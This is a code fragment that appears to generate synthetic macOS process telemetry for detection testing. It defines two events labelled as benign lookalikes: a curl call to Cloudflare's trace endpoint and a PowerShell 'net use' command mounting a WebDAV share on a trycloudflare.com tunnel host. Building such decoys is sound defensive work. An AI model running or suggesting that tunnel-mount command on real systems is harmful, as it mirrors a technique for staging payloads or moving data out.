  macTrace: (rng, host) => [{ kind: 'process', actor: proc('/bin/zsh', '-zsh', rng.range(300, 90000)), user: host.user, action: proc('/usr/bin/curl', 'curl -s https://www.cloudflare.com/cdn-cgi/trace', rng.range(300, 90000)), causality: 'Terminal', label: label('lookalike', 'curl-cdn-cgi-trace', false, 'none') }],
  macPwshNetUse: (rng, host) => [{ kind: 'process', actor: proc('/bin/zsh', '-zsh', rng.range(300, 90000)), user: host.user, action: proc('/usr/local/microsoft/powershell/7/pwsh', r`pwsh -c net use \\x.trycloudflare.com@SSL\webdav`, rng.range(300, 90000)), causality: 'Terminal', label: label('lookalike', 'mac-pwsh-net-use', false, 'none') }],
};
